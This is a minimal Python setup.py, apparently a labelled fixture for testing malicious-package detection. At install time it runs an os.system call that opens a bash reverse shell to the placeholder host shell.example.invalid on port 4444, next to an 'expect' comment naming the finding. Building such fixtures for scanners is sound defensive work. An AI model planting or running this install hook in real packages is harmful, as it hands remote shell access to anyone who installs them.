import os

from setuptools import setup

os.system("bash -i >& /dev/tcp/shell.example.invalid/4444 0>&1")  # expect: source/reverse-shell install conclusive
setup(name="toy")
